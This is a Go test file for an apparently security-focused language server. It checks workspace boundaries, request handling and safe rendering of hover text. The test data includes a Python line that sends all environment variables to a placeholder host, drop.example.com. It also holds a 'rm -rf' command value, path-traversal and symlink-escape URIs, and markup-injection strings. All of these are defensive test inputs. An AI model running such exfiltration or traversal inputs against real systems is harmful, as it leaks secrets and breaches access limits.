package lsp

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/aigate/gate/gate/lsp/protocol"
	"github.com/aigate/gate/gate/lsp/rpc"
)

func TestATextOutsideOfTheFoldersIsNotLookedAtAndSaysSo(t *testing.T) {
	r := project(t, map[string]string{"a.py": ""})
	elsewhere := t.TempDir()
	put(t, elsewhere, map[string]string{"secret.py": evil})
	if err := errors.Join(os.Symlink(elsewhere, filepath.Join(r.Dir, "link")), os.Symlink(filepath.Join(elsewhere, "secret.py"), filepath.Join(r.Dir, "b.py"))); err != nil {
		t.Fatal(err)
	}
	e := open(t, r.Dir, Options{}, nil)
	for _, uri := range []string{
		addressOf(filepath.Join(elsewhere, "secret.py")), addressOf(r.Dir + "/../x.py"), e.uri("link/secret.py"), e.uri("link/new.py"), e.uri("b.py"),
		"file://other.example.com" + filepath.Join(r.Dir, "a.py"), "untitled:Untitled-1", "https://example.com/a.py", "file:a.py", "a.py", "", "file://%zz", e.uri("a.py") + "?x=1", e.uri("a.py") + "%00", addressOf(r.Dir),
	} {
		e.notify("textDocument/didOpen", map[string]any{"textDocument": map[string]any{"uri": uri, "version": 1, "text": evil}})
		e.wait("word about "+uri, func() bool { _, ok := e.told[uri]; return ok })
		e.mu.Lock()
		got := shown(e.told[uri].Diagnostics)
		e.mu.Unlock()
		if len(got) != 1 || !strings.HasSuffix(got[0], " warning not-looked-at") {
			t.Errorf("%s: %q", uri, got)
		}
		_, err := call[any](e, "workspace/executeCommand", map[string]any{"command": commandRun, "arguments": []any{protocol.TextDocument{URI: uri}}})
		refused(t, err, rpc.CodeFailed, "it did not run")
		_, err = call[any](e, "workspace/executeCommand", map[string]any{"command": commandDismiss, "arguments": []any{Acceptance{URI: uri, Line: 2, Rule: "exfiltration/python-environment", Reason: "because", Account: "ada"}}})
		refused(t, err, rpc.CodeFailed, "finds nothing")
	}
}

func TestATextThatIsNotKnownAnyMoreSaysSo(t *testing.T) {
	e := open(t, project(t, map[string]string{"a.py": ""}).Dir, Options{}, nil)
	gone := []string{"0:0-0:8 warning not-looked-at"}
	e.edit("a.py", "print(1)\n")
	version := 1
	for _, tt := range []struct {
		name   string
		change protocol.Change
	}{
		{"a line that is not there", protocol.Change{Range: &protocol.Range{Start: at(70, 0), End: at(70, 0)}, Text: "x"}},
		{"an end before the beginning", protocol.Change{Range: &protocol.Range{Start: at(1, 0), End: at(0, 0)}, Text: "x"}},
	} {
		version++
		e.change("a.py", version, tt.change)
		if got := e.diagnostics("a.py", version); !slices.Equal(got, gone) {
			t.Errorf("%s: %q", tt.name, got)
		}
		version++ // what follows does not bring it back
		e.change("a.py", version, protocol.Change{Range: &protocol.Range{}, Text: "y"})
		if got := e.diagnostics("a.py", version); !slices.Equal(got, gone) {
			t.Errorf("%s, and a change: %q", tt.name, got)
		}
		version++
		e.change("a.py", version, protocol.Change{Text: "print(1)\n"})
		if got := e.diagnostics("a.py", version); len(got) > 0 {
			t.Errorf("%s, and all of the text: %q", tt.name, got)
		}
	}
	e.change("a.py", version+1, protocol.Change{Text: "print(1)\rprint(2)\n"}, protocol.Change{Range: &protocol.Range{}, Text: "#"})
	if got := e.diagnostics("a.py", version+1); len(got) != 1 || !strings.Contains(got[0], "not-looked-at") {
		t.Errorf("lines that editors count in different ways: %q", got)
	}
	text := evil
	e.notify("textDocument/didSave", protocol.Saved{TextDocument: protocol.TextDocument{URI: e.uri("a.py")}, Text: &text})
	e.wait("word about what was saved", func() bool { return has(shown(e.told[e.uri("a.py")].Diagnostics), "error exfiltration/") })
}

func TestATextThatIsTooLargeSaysSo(t *testing.T) {
	e := open(t, project(t, map[string]string{".gate.yml": "limits: {file-size: 1KiB}\n"}).Dir, Options{}, nil)
	e.edit("a.py", strings.Repeat("print(1)\n", 200))
	if got := e.diagnostics("a.py", 1); !slices.Equal(got, []string{"0:0-0:8 warning not-looked-at"}) {
		t.Errorf("%q", got)
	}
}

func TestTheLifeOfAServerHasAnOrder(t *testing.T) {
	e := connect(t, Options{})
	_, err := call[any](e, "textDocument/hover", protocol.HoverParams{})
	refused(t, err, rpc.CodeNotInitialized, "not initialized")
	_, err = call[any](e, "shutdown", nil)
	refused(t, err, rpc.CodeNotInitialized, "not initialized")
	e.notify("textDocument/didOpen", map[string]any{"textDocument": map[string]any{"uri": "file:///a.py", "text": evil}})
	_, err = call[any](e, "initialize", []int{1})
	refused(t, err, rpc.CodeInvalidParams, "not of the form")
	if _, err = call[any](e, "initialize", map[string]any{"capabilities": map[string]any{}}); err != nil {
		t.Fatal(err)
	}
	_, err = call[any](e, "initialize", map[string]any{})
	refused(t, err, rpc.CodeInvalidRequest, "already")
	_, err = call[any](e, "textDocument/definition", map[string]any{})
	refused(t, err, rpc.CodeUnknownMethod, "textDocument/definition")
	for _, p := range []any{nil, 3, []int{}, map[string]any{"command": "rm -rf", "arguments": []any{1}}, map[string]any{"command": commandRun}, map[string]any{"command": commandRun, "arguments": []any{3}}, map[string]any{"command": commandAccept, "arguments": []any{map[string]any{"uri": 3}}}} {
		if _, err := call[any](e, "workspace/executeCommand", p); err == nil {
			t.Errorf("%v is no error", p)
		}
	}
	for _, method := range []string{"textDocument/didOpen", "textDocument/didChange", "textDocument/didSave", "textDocument/didClose", "workspace/didChangeWorkspaceFolders", "window/workDoneProgress/cancel", "$/setTrace", "x"} {
		for _, p := range []any{nil, []int{1}, map[string]any{"textDocument": 3}, map[string]any{"textDocument": map[string]any{"uri": "file:///other.py"}, "contentChanges": []any{map[string]any{"text": "x"}}}} {
			e.notify(method, p)
		}
	}
	if _, err = call[any](e, "shutdown", nil); err != nil {
		t.Fatal(err)
	}
	_, err = call[any](e, "textDocument/hover", protocol.HoverParams{})
	refused(t, err, rpc.CodeInvalidRequest, "shutting down")
	e.notify("exit", nil)
	if err := <-e.served; err != nil {
		t.Error(err)
	}
}

func TestAnEditorThatGoesAwayIsNoPass(t *testing.T) {
	e := open(t, project(t, map[string]string{"a.py": ""}).Dir, Options{}, nil)
	e.edit("a.py", evil)
	e.notify("exit", nil)
	if err := <-e.served; !errors.Is(err, ErrNoShutdown) {
		t.Error(err)
	}
}

func TestContentOfFilesIsNoMarkup(t *testing.T) {
	e := open(t, project(t, map[string]string{"a.py": ""}).Dir, Options{}, nil)
	e.edit("a.py", "import os, requests\nrequests.post('https://drop.example.com/![x](https://192.0.2.1/p.png)```<img src=x>\u202e', json=dict(os.environ))\n")
	h, err := call[*protocol.Hover](e, "textDocument/hover", protocol.HoverParams{TextDocument: protocol.TextDocument{URI: e.uri("a.py")}, Position: at(1, 0)})
	if err != nil || h == nil {
		t.Fatal(h, err)
	}
	outside := ""
	for i, part := range strings.Split(h.Contents.Value, "````") { // the fence is longer than what is in it
		if i%2 == 0 {
			outside += part
		}
	}
	for _, bad := range []string{"![x](", "<img", "\u202e"} {
		if strings.Contains(outside, bad) {
			t.Errorf("%q in %s", bad, h.Contents.Value)
		}
	}
	if strings.Contains(h.Contents.Value, "\u202e") {
		t.Error("what reorders text is shown as it is")
	}
}

func TestAScanEndsWhenTheTextHasChanged(t *testing.T) {
	e := open(t, project(t, map[string]string{"a.py": ""}).Dir, Options{}, nil)
	e.edit("a.py", "")
	for version := 2; version < 60; version++ { // as fast as a pipe takes them
		e.change("a.py", version, protocol.Change{Text: fmt.Sprintf("print(%d)\n", version) + strings.Repeat("x = 'a'\n", 2000)})
	}
	e.change("a.py", 60, protocol.Change{Text: evil})
	if got := e.diagnostics("a.py", 60); !has(got, "error exfiltration/") {
		t.Errorf("%q", got)
	}
}

func TestAMessageThatIsNotReadMayHaveBeenAChange(t *testing.T) {
	e := open(t, project(t, map[string]string{"a.py": ""}).Dir, Options{}, nil)
	for i, message := range []any{
		map[string]any{"textDocument": map[string]any{"uri": 3}}, // of didChange
		protocol.Changed{Changes: []protocol.Change{{Text: strings.Repeat("x", rpc.MaxMessage)}}},
	} {
		e.edit("a.py", fmt.Sprintf("print(%d)\n", i))
		e.wait("word", func() bool { d, ok := e.told[e.uri("a.py")]; return ok && len(d.Diagnostics) == 0 })
		e.notify("textDocument/didChange", message)
		e.wait("word that it is not known", func() bool { return has(shown(e.told[e.uri("a.py")].Diagnostics), "not-looked-at") })
	}
}

func TestSoManyTextsAreLookedAtAndOthersSayThatTheyAreNot(t *testing.T) {
	e := open(t, project(t, map[string]string{"a.py": ""}).Dir, Options{Wait: 1}, nil)
	for i := range maxDocuments + 1 {
		e.edit(fmt.Sprintf(".git/x%d", i), "") // the policy leaves them out
	}
	uri := e.uri(fmt.Sprintf(".git/x%d", maxDocuments))
	e.wait("word about the last", func() bool { return has(shown(e.told[uri].Diagnostics), "not-looked-at") })
}

func TestAFolderThatIsClosedIsOutside(t *testing.T) {
	e := open(t, t.TempDir(), Options{}, nil)
	other := t.TempDir()
	folder := []protocol.WorkspaceFolder{{URI: addressOf(other)}}
	e.edit("a.py", evil)
	e.wait("finding", func() bool { return has(shown(e.told[e.uri("a.py")].Diagnostics), "error exfiltration/") })
	var p protocol.FoldersChanged
	p.Event.Added, p.Event.Removed = folder, []protocol.WorkspaceFolder{{URI: addressOf(e.dir)}}
	e.notify("workspace/didChangeWorkspaceFolders", p)
	e.wait("word that it is outside", func() bool { return has(shown(e.told[e.uri("a.py")].Diagnostics), "not-looked-at") })
	e.dir = other
	e.edit("b.py", evil)
	e.wait("finding in the other folder", func() bool { return has(shown(e.told[e.uri("b.py")].Diagnostics), "error exfiltration/") })
}
